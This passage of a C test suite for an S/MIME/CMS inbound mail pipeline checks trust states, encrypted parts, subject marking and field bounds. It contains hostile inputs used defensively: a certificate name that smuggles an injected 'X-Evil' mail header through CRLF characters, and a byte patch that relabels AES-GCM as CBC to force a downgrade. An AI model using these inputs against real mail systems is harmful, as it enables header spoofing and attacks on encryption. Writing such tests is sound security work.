	b = enveloped_in(PIPES_FIELDS, &sig);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
	pipes_job(&w, JOB_OPEN);
	w.rq.encrypted_part = POLICY_CHOICE_REFUSE;
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_NEEDS_TRUST);
	trust_hospital(JUDGE_TRUST_GOOD);
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_HOLD);
	ck_assert_msg(strstr(w.res.why, "part 2 is encrypted") != NULL, "%s", w.res.why);
	buf_clear(&text);
	buf_clear(&env);
	buf_clear(&in);
	buf_clear(&sig);
	buf_clear(&b);
}
END_TEST

/* AuthEnvelopedData made EnvelopedData with CBC: the whole way, nothing of it shows and nothing is delivered. */
START_TEST(gcm_relabelled)
{
	static const uint8_t gcm[] = {0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 0x2e};
	struct cms_recipient r = {.cert = w.lab.x, .mode = CMS_KEY_RSA_V15};
	struct problem pr = {0};
	struct buf der, b;
	struct stream_buf to;
	struct cms_enc *e;
	uint8_t *at;

	buf_init(&der, PIPES_MAX);
	stream_buf_init(&to, &der);
	e = cms_enc_new(&r, 1, CMS_AES_256_GCM, &to.writer, &pr);
	ck_assert_ptr_nonnull(e);
	ck_assert_int_eq(stream_write(cms_enc_writer(e), OCTETS(TEXT_PART), &pr), 0);
	ck_assert_int_eq(cms_enc_end(e, &pr), 0);
	at = memmem(der.p, der.len, gcm, sizeof(gcm));
	ck_assert_ptr_nonnull(at);
	at[8] = 0x2a; /* aes256-CBC, still under the old wrapping and parameters */
	pipes_wrap(PIPES_FIELDS, "authEnveloped-data", &der, &b);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_REFUSE);
	ck_assert_int_eq(run(JOB_OPEN, &b), JOB_HOLD);
	buf_clear(&b);
	buf_clear(&der);
}
END_TEST

/* The mark is ours alone, in marked mail and in good mail. */
START_TEST(mark_of_the_sender)
{
	struct buf b = opaque_in("From: doctor@hospital.example\r\nTo: bob@lab.example\r\nSubject: "
				 "=?utf-8?q?Re:_[not=C2=A0veri?= =?utf-8?q?fied]_result?=\r\n",
	    &w.hospital, OCTETS(TEXT_PART));
	const char *text, *at;

	for (int i = 0; i < 2; i++) {
		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_NEEDS_TRUST);
		trust_hospital(JUDGE_TRUST_GOOD);
		if (i == 1)
			w.rq.trust.v[0].state = JUDGE_TRUST_UNTRUSTED;
		w.rq.subject_mark = true;
		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
		text = pipes_text(&w, 0);
		at = strstr(text, "\r\nSubject: ");
		ck_assert_ptr_nonnull(at);
		ck_assert_msg(strncmp(at + 11, "[not verified] ", 15) == 0 ? i == 1 : i == 0, "%.100s", at);
		ck_assert(strstr(at, "veri?=") == NULL);
	}
	buf_clear(&b);
}
END_TEST

/* A certificate full of text: what is said of it stays within bounds, and begins no field. */
START_TEST(fields_are_bounded)
{
	char cn[65];
	struct testcert long_one;
	struct buf b;
	size_t n = 0;

	memset(cn, 'x', 64);
	cn[64] = 0;
	memcpy(cn + 10, "\r\nX-Evil: 1\r\n", 14);
	long_one = testcert_make(&(struct testcert_spec){.cn = cn});
	b = opaque_in(PIPES_FIELDS, &long_one, OCTETS(TEXT_PART));
	ck_assert_int_eq(run_trusted(JOB_CHECK, &b, JUDGE_TRUST_UNTRUSTED), JOB_DONE);
	ck_assert(!shows("\nX-Evil") && strlen(w.res.log) < sizeof(w.res.log));
	for (const char *p = pipes_text(&w, 0), *end = strstr(p, PIPES_TRACE_IN) + strlen(PIPES_TRACE_IN);
	     end < strstr(p, "\r\nFrom: "); end++)
		n++;
	ck_assert_uint_lt(n, 6000);
	buf_clear(&b);
	testcert_free(&long_one);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("inbound");
	TCase *t = tcase_create("inbound");
	int failed;

	another = EVP_RSA_gen(2048);
	tcase_set_timeout(t, 180);
	tcase_add_checked_fixture(t, setup, teardown);
	tcase_add_loop_test(t, insides_show_nothing, 0, INSIDES);
	tcase_add_loop_test(t, insides_when_all_is_delivered, 0, INSIDES);
	tcase_add_test(t, ten_thousand_parts);
	tcase_add_test(t, layers_within_layers);
	tcase_add_loop_test(t, bad_layer_inside, 0, 2);
	tcase_add_test(t, wrong_key);
	tcase_add_loop_test(t, flipped_bits, 0, 3);
	tcase_add_test(t, truncated);
	tcase_add_test(t, forbidden_cipher);
	tcase_add_test(t, foreign);
	tcase_add_test(t, trust_remembered);
	tcase_add_loop_test(t, trust_states, 0, 3);
	tcase_add_test(t, judge_uncertain);
	tcase_add_loop_test(t, answers_of_others, 0, 12);
	tcase_add_loop_test(t, several_from, 0, (int)(sizeof(fronts) / sizeof(fronts[0])));
	tcase_add_loop_test(t, odd_from, 0, (int)(sizeof(froms) / sizeof(froms[0])));
	tcase_add_test(t, name_that_shows_another);
	tcase_add_loop_test(t, relay_did_it, 0, (int)(sizeof(relays) / sizeof(relays[0])));
	tcase_add_loop_test(t, signature_lost, 0, sizeof(lost) / sizeof(lost[0]));
	tcase_add_loop_test(t, envelope_as_certificates, 0, 2);
	tcase_add_loop_test(t, line_ends_of_unix, 0, 3);
	tcase_add_test(t, several_signers);
	tcase_add_test(t, certificate_known_here);
	tcase_add_test(t, certificate_of_one_known);
	tcase_add_test(t, wrapped_message_of_a_person);
	tcase_add_test(t, signed_receipt);
	tcase_add_test(t, receipt_vouches_for_no_field);
	tcase_add_test(t, other_content_types);
	tcase_add_test(t, signed_outside_only);
	tcase_add_test(t, triple);
	tcase_add_test(t, outer_signer_lends_nothing);
	tcase_add_test(t, compressed);
	tcase_add_test(t, partly_signed);
	tcase_add_loop_test(t, encrypted_part, 0, (int)(sizeof(shapes) / sizeof(shapes[0])));
	tcase_add_test(t, encrypted_part_inside);
	tcase_add_loop_test(t, encrypted_part_hidden, 0, 3);
	tcase_add_test(t, certificates_alone);
	tcase_add_test(t, large_signature_small_change);
	tcase_add_test(t, gcm_relabelled);
	tcase_add_test(t, mark_of_the_sender);
	tcase_add_test(t, fields_are_bounded);
	tcase_add_test(t, signature_over_a_part);
	tcase_add_test(t, changed_after_signing);
	tcase_add_loop_test(t, forged_results, 0, 3);
	tcase_add_test(t, released);
	tcase_add_test(t, released_as_it_came);
	tcase_add_test(t, neither_signed_nor_sealed);
	suite_add_tcase(s, t);
	failed = fixture_run(s, PIPES_ALGOS);
	EVP_PKEY_free(another);
	return failed;
}
